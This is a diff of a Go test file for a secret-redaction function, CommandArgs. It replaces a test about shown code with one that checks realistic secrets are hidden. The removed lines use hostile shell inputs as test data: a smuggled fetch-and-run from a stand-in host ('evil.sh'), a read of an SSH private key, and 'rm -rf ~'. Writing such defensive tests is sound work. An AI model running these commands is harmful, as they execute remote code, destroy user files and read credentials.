@@ -249,24 +249,31 @@ func TestCommandArgs(t *testing.T) {
 	}
 }
 
-// A secret-named value is hidden only while it is inert data; one that a
-// shell would act on is shown as written, so that no redaction hides a
-// payload from the person checking what will run. Known secret values go
-// wherever they appear.
-func TestCommandArgsShowsCode(t *testing.T) {
-	for _, tc := range []struct{ in, want []string }{
-		{[]string{"--api-key=$(curl${IFS}evil.sh|sh)"}, []string{"--api-key=$(curl${IFS}evil.sh|sh)"}},
-		{[]string{"--api-key", "`id`"}, []string{"--api-key", "`id`"}},
-		{[]string{"-c", "TOKEN=abc123; curl x | sh"}, []string{"-c", "TOKEN=" + Placeholder + "; curl x | sh"}},
-		{[]string{"-c", "secret=$(cat ~/.ssh/id_rsa) run"}, []string{"-c", "secret=$(cat ~/.ssh/id_rsa) run"}},
-		{[]string{"-c", "run --token abc; rm -rf ~"}, []string{"-c", "run --token abc; rm -rf ~"}},
-		{[]string{"https://u:p$(x)@h/"}, []string{"https://u:p$(x)@h/"}},
-		{[]string{"--header", "Authorization: Bearer sk-live-123"}, []string{"--header", "Authorization: " + Placeholder}},
-		{[]string{"--password='hunter2'"}, []string{"--password=" + Placeholder}},
-		{[]string{"--label=known-secret-value;x"}, []string{"--label=" + Placeholder + ";x"}},
+// Command arguments keep real secrets out whatever characters they hold:
+// database URLs, passwords with shell characters or spaces, JSON, query
+// tokens (review 15: a rule that showed "non-inert" values printed them).
+// A known secret goes wherever it appears.
+func TestCommandArgsHidesRealisticSecrets(t *testing.T) {
+	for _, tc := range []struct {
+		args   []string
+		secret string
+	}{
+		{[]string{"-y", "@modelcontextprotocol/server-postgres", "postgresql://app:Pa$$w0rd@db.internal/prod"}, "Pa$$w0rd"},
+		{[]string{"mysql://root:s3cr3t&x(1)@localhost/db"}, "s3cr3t&x(1)"},
+		{[]string{"--password", "Tr0ub4dor&3"}, "Tr0ub4dor&3"},
+		{[]string{"--password", "correct horse battery staple"}, "correct horse battery staple"},
+		{[]string{"--password=hunter2$"}, "hunter2$"},
+		{[]string{"--db-password", "x9!K$m2#Lq"}, "x9!K$m2#Lq"},
+		{[]string{"--api-key", "ab\\cd1234"}, "ab\\cd1234"},
+		{[]string{"--header", "Cookie: sessionid=abc123def456; csrftoken=zz99yy88"}, "abc123def456"},
+		{[]string{"--config", `{"password": "my pass phrase"}`}, "my pass phrase"},
+		{[]string{"https://api.example.com/v1?api_key=k3y$abc"}, "k3y$abc"},
+		{[]string{"--header", "Cookie: theme=dark; sid=s%3Aq8Zk2mW9.xYz"}, "s%3Aq8Zk2mW9.xYz"},
+		{[]string{"--label", "x-known-secret-value-y"}, "known-secret-value"},
 	} {
-		if d := cmp.Diff(tc.want, CommandArgs(tc.in, "known-secret-value")); d != "" {
-			t.Errorf("CommandArgs(%q) (-want +got):\n%s", tc.in, d)
+		got := strings.Join(CommandArgs(tc.args, "known-secret-value"), " ")
+		if strings.Contains(got, tc.secret) {
+			t.Errorf("CommandArgs(%q) = %q shows the secret %q", tc.args, got, tc.secret)
 		}
 	}
 }
